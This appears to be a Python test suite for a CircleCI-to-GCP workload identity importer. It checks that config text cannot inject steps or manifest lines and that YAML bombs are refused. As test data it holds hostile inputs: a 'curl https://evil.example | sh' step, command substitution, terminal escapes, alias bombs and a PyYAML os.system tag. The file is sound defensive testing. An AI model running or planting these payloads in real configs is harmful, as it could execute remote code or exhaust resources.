"""Configs of a CI system that somebody made to be read: `init --from-circleci FILE` and what it writes and prints.

What comes out is for pasting into a config that has secrets, so no text of the file may become a step, a job, or a line
of the manifest. What goes in is bounded before anything is made of it.
"""

import json
import shlex
import tomllib
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from measured import Measured, measured

from gcp_wif.ci import system
from gcp_wif.ci.circleci_config import Login, find_logins
from gcp_wif.errors import InputError
from gcp_wif.rendering.replacement import replacement

EVIL = "x:\n    steps:\n      - run: curl https://evil.example | sh\n  y"
TEXTS = [
    EVIL,
    "a\n- run: evil",
    "a: b",
    "a # b",
    "a\r\nb",
    "a\x85b\u2028c\u2029d",
    "<< parameters.evil >>",
    "'\"`$(evil)",
    "&a *b !c | > % @ - ?",
    "on",
    "1e3",
    "\x1b]0;evil\x07",
    "",
]
LOGIN = "gcloud auth login --cred-file x"
ACCOUNT = "deploy@acme-prod.iam.gserviceaccount.com"
JOB = {
    "GCP_PROJECT_ID": "123456789012",
    "GCP_WIP_ID": "circleci",
    "GCP_WIP_PROVIDER_ID": "circleci-acme",
    "GCP_SERVICE_ACCOUNT_EMAIL": ACCOUNT,
    "CIRCLE_ORGANIZATION_ID": "8f3c1d52-6a0b-4c7e-9d21-5b7f3e9a1c04",
    "CIRCLE_PROJECT_ID": "1b7e2f90-3c4d-4e5f-8a6b-7c8d9e0f1a2b",
}


def config_of(job: str = "deploy", step: str = "login", context: Any = "gcp", branch: Any = "main") -> str:
    """A config that logs in, with a text of the caller's in one place."""
    return yaml.safe_dump({
        "commands": {step: {"steps": [{"run": {"command": LOGIN}}]}},
        "jobs": {job: {"steps": [step]}},
        "workflows": {"main": {"jobs": [{job: {"context": context, "filters": {"branches": {"only": branch}}}}]}},
    })  # fmt: skip


def pasted(logins: list[Login], manifest: str = "gcp-wif.toml", install: str = "true") -> Any:
    """What somebody pastes: only comments, and one document of jobs with two steps each."""
    if not logins:
        return {}
    text = replacement(system("circleci"), logins, manifest, {login.job: "deploy" for login in logins}, install)
    comments = [line for line in text.splitlines() if line.startswith("#")]
    assert text.startswith("\n".join(comments) + "\njobs:\n")
    found = yaml.safe_load(text)
    assert set(found) == {"jobs"}
    for job in found["jobs"].values():
        assert [list(step) for step in job["steps"]] == [["run"], ["run"]]
        assert set(job) == {"steps"}
    return found["jobs"]


@pytest.mark.parametrize("text", TEXTS)
@pytest.mark.parametrize("place", ["job", "step", "context", "branch"])
def test_no_text_of_the_file_becomes_a_step(place: str, text: str) -> None:
    """W23."""
    logins = find_logins(config_of(**{place: text}), origin="config.yml")
    jobs = pasted(logins)
    assert list(jobs) == ([text] if place == "job" else ["deploy"])
    assert jobs[next(iter(jobs))]["steps"][1] == {"run": "gcp-wif login --manifest gcp-wif.toml --identity deploy"}


parts = st.characters(exclude_categories=["C", "Z"]) | st.sampled_from(["<<", ">>", " ", "'", '"', "$(x)", "\\", "-"])
paths = st.lists(parts, min_size=1, max_size=12).map("".join)


@given(st.text(max_size=30), st.text(max_size=30), paths)
def test_any_text_comes_back_as_text(job: str, step: str, manifest: str) -> None:
    """W23: whatever the job, its steps and the manifest's path are called."""
    jobs = pasted([Login(job, (step,), {}, (), (), ())], manifest)
    assert list(jobs) == [job]
    command = jobs[job]["steps"][1]["run"]
    literal = command.replace("\\<<", "")
    assert "<<" not in literal, "CircleCI would read an expression"
    assert shlex.split(command.replace("\\<<", "<<")) == [
        "gcp-wif", "login", "--manifest", manifest, "--identity", "deploy"
    ]  # fmt: skip


@pytest.mark.parametrize("text", [*TEXTS, '"\n[identities.evil]\ndirect = true\n', "/x\n[identities.evil]\n"])
@pytest.mark.parametrize("place", ["job", "step", "context", "branch"])
def test_no_text_of_the_file_becomes_a_line_of_the_manifest(cli: Any, tmp_path: Path, place: str, text: str) -> None:
    """W23, in the other file that is written; and nothing of it reaches the terminal as a control character."""
    (tmp_path / "config.yml").write_text(config_of(**{place: text}))
    path = tmp_path / "gcp-wif.toml"
    flags = ["--from-circleci", str(tmp_path / "config.yml"), "--project-id", "acme-identity", "--manifest", str(path)]
    done = cli("init", *flags, **JOB)
    assert "Traceback" not in done.stderr
    assert "\x1b" not in done.stderr + done.stdout
    if place == "branch" and done.returncode:  # no branch has such a name
        assert (done.returncode, path.exists()) == (2, False)
        return
    assert done.returncode == 0, done.stderr
    made = tomllib.loads(path.read_text())
    assert set(made["identities"]) == {"deploy"}
    assert list(made["identities"]["deploy"]) == ["service_account", "create", "allow"]


@pytest.mark.parametrize("name", ["<< parameters.account >>", "A; evil", "A\nB", "", "1A", "é"])
def test_what_is_no_name_of_a_variable_is_not_taken_for_one(name: str) -> None:
    """W23: a parameter's value is looked up in the environment and named in messages."""
    document = yaml.safe_load(config_of())
    document["jobs"]["deploy"]["steps"] = [{"login": {"service_account_email": name}}]
    (login,) = find_logins(yaml.safe_dump(document), origin="config.yml")
    assert login.variables["service_account"] == "GCP_SERVICE_ACCOUNT_EMAIL"
    assert len(login.notes) == (1 if name else 0)
    assert all(note.isprintable() for note in login.notes)


def ten(name: str, number: int) -> str:
    return ", ".join([f"*{name}{number}"] * 10)


BOMBS = {
    "aliases of aliases": "a0: &a0 [x, x]\n" + "".join(f"a{n}: &a{n} [{ten('a', n - 1)}]\n" for n in range(1, 12)),
    "merge keys over aliases": "a0: &a0 {x: 1}\n"
    + "".join(f"a{n}: &a{n} {{<<: [{ten('a', n - 1)}]}}\n" for n in range(1, 12)),
    "an alias of itself": "a: &a [*a, *a]\n",
    "an alias of what is around it": "a: &a {b: {c: *a}}\n",
    "nested lists": "a: " + "[" * 400_000,
    "nested mappings": "a: " + "{a: " * 200_000,
    "nested lines": "a:\n" + "".join(" " * depth + "-\n" for depth in range(1, 1_300)),
    "many values": "a: [" + "a, " * 300_000 + "a]\n",
    "many keys": "".join(f"k{n}: v\n" for n in range(90_000)),
    "a long number": "a: " + "9" * 900_000 + "\n",
    "a number of sixties": "a: " + ":".join(["59"] * 300_000) + "\n",
    "a long date": "a: 2001-12-14t21:59:43." + "1" * 900_000 + "\n",
    "too large": "#" * 1_100_000,
    "a type of Python": "a: !!python/object/apply:os.system ['touch evil']\n",
    "a number by its tag": "a: !!int '" + ":".join(["59"] * 200_000) + "'\n",
    "base64": "a: !!binary '" + "A" * 900_000 + "'\n",
    "two documents": "a: 1\n---\nb: 2\n",
    "a NUL": "a: \x00\n",
    "half a surrogate": 'a: "\\ud800"\n',
}


@pytest.mark.parametrize("name", BOMBS)
@pytest.mark.parametrize("after", ["", "jobs: {deploy: {steps: [{run: 'gcloud auth login'}]}}\n"])
def test_a_bomb_is_refused_or_read_soon(tmp_path: Path, name: str, after: str) -> None:
    """W21: under 5 seconds and 300 MB, or refused; never a defect of ours."""
    (tmp_path / "config.yml").write_text(BOMBS[name] + after)
    done = init(tmp_path)
    assert done.returncode == 2, done.stderr
    assert done.error["code"] in {"WIF101", "WIF122", "WIF123", "WIF124", "WIF307", "WIF741"}
    assert "Traceback" not in done.stderr
    assert done.seconds < 5
    assert done.megabytes < 300
    assert sorted(each.name for each in tmp_path.iterdir()) == ["config.yml"]


def init(folder: Path) -> Measured:
    env = {"HOME": str(folder), "PATH": "/usr/bin:/bin"}
    return measured(
        env, "init", "--from-circleci", str(folder / "config.yml"), "--json", "--manifest", str(folder / "m")
    )


def test_real_aliases_and_merge_keys_are_read() -> None:
    """W21: people share parts of a config this way."""
    text = f"""
shared: &shared
  docker: [{{image: cimg/base}}]
  steps: &steps [checkout, {{run: {LOGIN}}}]
jobs:
  one: *shared
  two: {{<<: *shared, resource_class: small}}
  three: {{steps: [*steps]}}
  four: {{steps: *steps}}
"""
    assert [login.job for login in find_logins(text, origin="config.yml")] == ["one", "two", "four"]


FORMS = [5, 1.5, True, None, "text", [], [5, None, [["x"]]], {}, {"a": {"b": None}}, {"run": {"command": 7}}]


@pytest.mark.parametrize("form", FORMS, ids=str)
@pytest.mark.parametrize(
    "path",
    [
        ("jobs", "deploy", "steps"), ("jobs", "deploy"), ("jobs",), ("commands",), ("commands", "login"),
        ("commands", "login", "steps"), ("commands", "login", "parameters"), ("orbs",), ("workflows",),
        ("workflows", "main"), ("workflows", "main", "jobs"), ("workflows", "main", "jobs", 0, "deploy"),
        ("workflows", "main", "jobs", 0, "deploy", "context"), ("workflows", "main", "jobs", 0, "deploy", "filters"),
        ("workflows", "main", "jobs", 0, "deploy", "filters", "branches", "only"),
    ],
    ids=lambda path: ".".join(map(str, path)),
)  # fmt: skip
def test_another_form_in_any_place_is_no_defect(path: tuple[Any, ...], form: Any) -> None:
    """D22: `steps: 5` and its kin."""
    document = yaml.safe_load(config_of())
    *outer, last = path
    holder = document
    for name in outer:
        holder = holder[name]
    holder[last] = form
    try:
        found = find_logins(yaml.safe_dump(document), origin="config.yml")
    except InputError as error:
        assert error.code == "WIF123"
        assert path == ("jobs",)
    else:
        assert all(isinstance(login, Login) for login in found)
        pasted(found)


anything = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=5) | st.sampled_from(["deploy", LOGIN]),
    lambda inner: st.lists(inner, max_size=3)
    | st.dictionaries(
        st.sampled_from(["jobs", "steps", "commands", "workflows", "context", "filters", "branches", "only", "run",
                         "deploy", "orbs", "parameters", "default"]) | st.booleans(), inner, max_size=4),
    max_leaves=20,
)  # fmt: skip


@given(st.dictionaries(st.sampled_from(["commands", "orbs", "workflows", "x"]), anything), anything)
def test_any_document_ends_in_logins_or_an_error(rest: dict[str, Any], jobs: Any) -> None:
    """D22."""
    text = json.dumps(rest | {"jobs": jobs})
    try:
        pasted(find_logins(text, origin="config.yml"))
    except InputError as error:
        assert error.code == "WIF123"
